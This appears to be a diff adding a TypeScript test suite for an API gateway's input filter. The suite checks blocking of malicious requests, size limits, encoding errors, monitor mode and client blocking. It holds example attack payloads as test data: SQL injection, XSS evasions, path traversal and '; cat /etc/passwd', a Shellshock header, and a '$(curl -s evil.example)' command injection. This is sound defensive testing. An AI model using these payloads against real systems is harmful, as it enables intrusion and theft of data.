@@ -1,0 +1,131 @@
+import assert from "node:assert/strict";
+import { after, before, describe, test } from "node:test";
+import { rawRequest } from "../helpers/raw-http.js";
+import { startTestGateway, tenantWithKey, type TestGateway } from "../helpers/gateway.js";
+
+describe("the shield", () => {
+  let gw: TestGateway;
+  let key: string;
+  before(async () => {
+    gw = await startTestGateway({
+      version: 1,
+      routes: [
+        {
+          name: "guarded",
+          match: { path: "/guarded/**" },
+          shield: { maxBodyBytes: 2_048, maxJsonDepth: 4, maxJsonKeys: 20, maxFieldLength: 100, words: { fields: ["text"], min: 2, max: 10 }, maxUrlLength: 300, maxHeaderBytes: 4_096 },
+        },
+        { name: "watched", match: { path: "/watched/**" }, shield: { mode: "monitor" } },
+        { name: "partly", match: { path: "/partly/**" }, shield: { checks: { sqli: "off", phoneNumbers: "monitor" } } },
+      ],
+    });
+    key = (await tenantWithKey(gw)).key;
+  });
+  after(() => gw.close());
+
+  const send = async (path: string, body?: string | Buffer, contentType = "application/json", headers: Record<string, string> = {}) => {
+    const response = await fetch(`${gw.url}${path}`, {
+      method: body === undefined ? "GET" : "POST",
+      headers: { authorization: `Bearer ${key}`, ...(body === undefined ? {} : { "content-type": contentType }), ...headers },
+      ...(body === undefined ? {} : { body }),
+    });
+    const text = await response.text();
+    return { status: response.status, body: (text.startsWith("{") ? JSON.parse(text) : {}) as Record<string, unknown> };
+  };
+
+  test("attacks are refused in the query, the path, headers and JSON and form bodies, through the usual evasions", async () => {
+    const attacks: [string, string | undefined, string?][] = [
+      ["/guarded/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", undefined],
+      ["/guarded/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", undefined],
+      ["/guarded/x", JSON.stringify({ comment: "<img src=x onerror=alert(1)>" })],
+      ["/guarded/x", JSON.stringify({ comment: "&#60;script&#62;alert(1)&#60;/script&#62;" })],
+      ["/guarded/x", JSON.stringify({ comment: "\\u003cscript\\u003ealert(1)" })],
+      ["/guarded/x", JSON.stringify({ name: "＜script＞alert(1)＜/script＞" })],
+      ["/guarded/x", JSON.stringify({ id: "1 UN/**/ION SE/**/LECT 1,2" })],
+      ["/guarded/x", JSON.stringify({ nested: { list: ["ok", "; cat /etc/passwd"] } })],
+      ["/guarded/x", JSON.stringify({ "<script>alert(1)</script>": "a key is a field too" })],
+      ["/guarded/x", "file=..%2F..%2Fetc%2Fpasswd", "application/x-www-form-urlencoded"],
+      ["/guarded/x", "$(curl -s evil.example)", "text/plain"],
+    ];
+    for (const [path, body, type] of attacks) {
+      const answer = await send(path, body, type);
+      assert.equal(answer.status, 400, `${path} ${body}`);
+      assert.equal(answer.body.code, "MALICIOUS_INPUT", `${path} ${body}`);
+      assert.ok(typeof answer.body.class === "string" && typeof answer.body.field === "string");
+    }
+    const header = await send("/guarded/x", undefined, undefined, { "user-agent": "() { :; }; /bin/bash -c 'id'" });
+    assert.equal(header.body.field, "header.user-agent");
+    assert.equal(header.body.class, "cmdi");
+    const finding = gw.logs.find((line) => line.includes("shield refused a request") && line.includes("xss-event-handler"));
+    assert.ok(finding, "the log names the rule, the field and the class");
+    assert.match(finding, /"field":"body.comment"/);
+  });
+
+  test("ordinary input passes untouched, and a read body reaches the upstream whole", async () => {
+    const body = JSON.stringify({ name: "Mary-Jane O'Brien", text: "Please update my delivery address", note: "Tom & Jerry; a < b" });
+    const answer = await send("/guarded/orders?q=select%20the%20best&sort=price", body);
+    assert.equal(answer.status, 200);
+    assert.equal(answer.body.body_bytes, Buffer.byteLength(body));
+  });
+
+  test("structure and size limits: depth, keys, field length, words, URLs, phone numbers, body, headers, URL", async () => {
+    const rejected = async (body: string, check: string) => {
+      const answer = await send("/guarded/x", body);
+      assert.equal(answer.status, 422, check);
+      assert.equal(answer.body.code, "INPUT_REJECTED");
+      assert.equal(answer.body.check, check);
+    };
+    await rejected(JSON.stringify({ a: { b: { c: { d: { e: 1 } } } } }), "jsonDepth");
+    await rejected(JSON.stringify(Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`k${i}`, i]))), "jsonKeys");
+    await rejected(JSON.stringify({ f: "x".repeat(101) }), "fieldLength");
+    await rejected(JSON.stringify({ text: "one" }), "words");
+    await rejected(JSON.stringify({ text: "a b c d e f g h i j k" }), "words");
+    await rejected(JSON.stringify({ links: Array.from({ length: 6 }, (_, i) => `see https://e${i}.example`) }), "urls");
+    await rejected(JSON.stringify({ f: "+1 415 555 0100, +1 415 555 0101, 020 7946 0958 and 0800 123 4567" }), "phoneNumbers");
+    assert.equal((await send("/guarded/x", JSON.stringify({ f: "a".repeat(90), g: "b".repeat(90) }))).status, 200, "just inside the limits");
+    assert.equal((await send("/guarded/x", JSON.stringify({ big: "y".repeat(3_000) }))).status, 413);
+    assert.equal((await send(`/guarded/${"p".repeat(400)}`)).status, 414);
+    assert.equal((await send("/guarded/x", undefined, undefined, { "x-padding": "z".repeat(5_000) })).status, 431);
+  });
+
+  test("bytes that are not UTF-8, or a body that is not the JSON it claims, are INVALID_ENCODING", async () => {
+    const invalid = await send("/guarded/x", Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]));
+    assert.equal(invalid.body.code, "INVALID_ENCODING");
+    assert.equal((await send("/guarded/x?q=%C3%28")).body.code, "INVALID_ENCODING");
+    assert.equal((await send("/guarded/x", "{not json")).body.code, "INVALID_ENCODING");
+    assert.equal((await send("/guarded/x", Buffer.from([0xff, 0xfe, 0x00]), "application/octet-stream")).status, 200, "binary bodies are not text");
+  });
+
+  test("a chunked body over the limit is refused while it is read, not after", async () => {
+    const answer = await rawRequest(
+      gw.url,
+      `POST /guarded/x HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n` +
+        `800\r\n${"a".repeat(0x800)}\r\n800\r\n${"b".repeat(0x800)}\r\n0\r\n\r\n`,
+    );
+    assert.equal(answer.status, 413);
+  });
+
+  test("monitor mode logs what block mode would refuse; a check set off is not run", async () => {
+    const watched = await send("/watched/x?q=%27%20OR%201%3D1--");
+    assert.equal(watched.status, 200);
+    assert.ok(gw.logs.some((line) => line.includes("shield findings (monitor)") && line.includes("sqli-")));
+    assert.equal((await send("/partly/x?q=%27%20OR%201%3D1--")).status, 200, "sqli is off on this route");
+    assert.equal((await send("/partly/x?q=%3Cscript%3E")).status, 400, "the other detectors still block");
+    assert.equal((await send("/partly/x", JSON.stringify({ f: "+1 415 555 0100, +1 415 555 0101, 020 7946 0958, 0800 123 4567" }))).status, 200);
+  });
+});
+
+test("a client that keeps sending attacks is blocked", async () => {
+  const gw = await startTestGateway({
+    version: 1,
+    blocking: { threshold: 3, windowSeconds: 60, blockSeconds: 60 },
+    routes: [{ name: "open", match: { path: "/**" }, authenticate: "none", shield: {} }],
+  });
+  try {
+    for (let i = 0; i < 3; i++) assert.equal((await fetch(`${gw.url}/x?q=%3Cscript%3E`)).status, 400);
+    const blocked = await fetch(`${gw.url}/x?q=harmless`);
+    assert.equal(((await blocked.json()) as { code: string }).code, "BLOCKED");
+  } finally {
+    await gw.close();
+  }
+});
